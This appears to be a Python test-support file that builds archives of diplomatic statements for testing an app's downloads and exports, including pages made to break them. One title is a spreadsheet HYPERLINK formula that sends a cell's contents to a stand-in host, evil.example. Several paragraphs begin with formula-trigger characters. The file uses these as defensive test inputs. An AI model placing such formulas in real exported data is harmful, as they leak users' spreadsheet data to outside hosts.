"""An archive for the download tests: the seeds and the web sample pages, plus pages made to
break downloads (spreadsheet formulas, TeX specials and unbalanced braces, non-Latin text,
names with particles, an institution with "and" in its name, a statement with more matching
paragraphs than a search shows per statement)."""

from __future__ import annotations

import datetime as dt
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from app.db import session_scope
from app.ingest.load import load_page
from app.ingest.types import ParsedPage, ParsedParagraph, ParsedSpeaker, ParsedStatement
from tests.web_support import SEEDS, load_sample

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
TEX_TITLE = r"Unbalanced { brace, 100% of $5 & #1_a ~ ^ \end{document} }} {"
CYRILLIC_TITLE = "Заявление МИД России о ситуации в Казахстане"
MANY = 27  # paragraphs of one statement that match "ceasefire": more than search()'s 20 per statement


def _paras(*texts: str, speaker: str | None = None) -> tuple[ParsedParagraph, ...]:
    return tuple(
        ParsedParagraph(n=i, text=t, speaker=speaker, label=None, line_start=2 * i, line_end=2 * i)
        for i, t in enumerate(texts, 1)
    )


def _statement(title: str, speakers: tuple[ParsedSpeaker, ...], paragraphs, **kw) -> ParsedStatement:
    fields = dict(
        role="main",
        title=title,
        kind="statement",
        date=dt.date(2022, 5, 9),
        published=None,
        venue=None,
        speakers=speakers,
        topics=(),
        paragraphs=paragraphs,
        title_line=1,
    )
    return ParsedStatement(**(fields | kw))


EXPORT_PAGES: dict[str, ParsedPage] = {
    "formulas.txt": ParsedPage(
        statements=(
            _statement(
                FORMULA_TITLE,
                (ParsedSpeaker("Wang Yi", "Foreign Minister"),),
                _paras(
                    "=1+2",
                    "+33 1 23 45 67 89 is the ceasefire hotline",
                    "-2 degrees and a ceasefire",
                    "@SUM(A1:A2) ceasefire",
                    "\tTabbed ceasefire text",
                    "Lavrov’s “ceasefire” — naïve café, 北京",
                ),
                date=dt.date(2022, 3, 4),
            ),
        )
    ),
    "tex.txt": ParsedPage(
        statements=(
            _statement(
                TEX_TITLE,
                (
                    ParsedSpeaker("Ursula von der Leyen", "President of the Commission"),
                    ParsedSpeaker("Mohammed bin Salman Al Saud", "Crown Prince"),
                ),
                _paras(r"A backslash \ and braces { } and ~tilde^ in a ceasefire text."),
                date=dt.date(2022, 5, 9),
            ),
        )
    ),
    "cyrillic.txt": ParsedPage(
        statements=(
            _statement(
                CYRILLIC_TITLE,
                (ParsedSpeaker("Ministry of Foreign Affairs and Trade", None, "institution"),),
                _paras("Прекращение огня (ceasefire) должно соблюдаться."),
                date=None,
                published=dt.date(2022, 1, 7),
            ),
        )
    ),
    "many.txt": ParsedPage(
        statements=(
            _statement(
                "Statement with many ceasefire paragraphs",
                (ParsedSpeaker("Foreign Ministry", None, "institution"),),
                _paras(
                    *(f"Paragraph {i} on the ceasefire, point {i}." for i in range(1, MANY + 1)),
                    "A paragraph about something else.",
                ),
                date=dt.date(2022, 2, 1),
            ),
        )
    ),
    "undated-unpublished.txt": ParsedPage(
        statements=(
            _statement(
                "Undated note on the ceasefire", (), _paras("The ceasefire note."), date=None, published=None
            ),
        )
    ),
}


def _built(data: Path, fill: Callable) -> Path:
    """`data`, made once: a fresh archive, `fill(settings, factory)`, its search index synced."""
    from app.config import Settings
    from app.db import open_database
    from app.outbox.sync import sync_index

    if (data / "done").exists():
        return data
    shutil.rmtree(data, ignore_errors=True)
    settings = Settings(data_dir=data)
    engine, factory = open_database(settings)
    try:
        fill(settings, factory)
        sync_index(settings, factory)
    finally:
        engine.dispose()
    (data / "done").touch()
    return data


def _ingest(settings, factory, paths: list[str], **kw) -> None:
    from app.ingest.run import ingest_paths

    summary = ingest_paths(factory, paths, max_bytes=settings.max_page_bytes, **kw)
    assert not summary.failures, [f.error for f in summary.failures]


def build_export_archive(root: Path) -> Path:
    def fill(settings, factory):
        _ingest(settings, factory, [str(SEEDS)])
        load_sample(factory)
        now = dt.datetime(2024, 2, 3, 12, 0)
        for name, page in EXPORT_PAGES.items():
            with session_scope(factory) as session:
                load_page(
                    session,
                    path=f"export/{name}",
                    file_name=name,
                    raw=name.encode(),
                    text=name,
                    page=page,
                    now=now,
                )

    return _built(root / "export-archive", fill)


def need(tool: str, found: str | None, install: str = ".ci/install-exports.sh") -> str:
    """The tool's path; outside CI a missing tool skips the test, in CI (CI=true) it fails it."""
    if found:
        return found
    message = f"{tool} is not installed ({install} installs it)"
    if os.environ.get("CI") == "true":
        pytest.fail(message)
    pytest.skip(message)


PAGES = Path(__file__).parent / "data" / "export_pages"  # written for these tests: realistic shapes


def build_pages_archive(root: Path, pages: Path = PAGES, name: str = "pages-archive") -> Path:
    """An archive of real pages through the real ingest (parser, HTML reader, manifest when the
    folder has one): by default the project's export fixture pages (Cyrillic, institutions,
    nasab and particle names, family-name-first names, URLs with ~ _ % #, TeX specials,
    unmatched braces, bidi controls, formula-leading text)."""
    from app.ingest.manifest import read_manifest

    def fill(settings, factory):
        manifest = read_manifest(pages / "manifest.csv") if (pages / "manifest.csv").exists() else None
        _ingest(settings, factory, [str(pages)], manifest=manifest)

    return _built(root / name, fill)
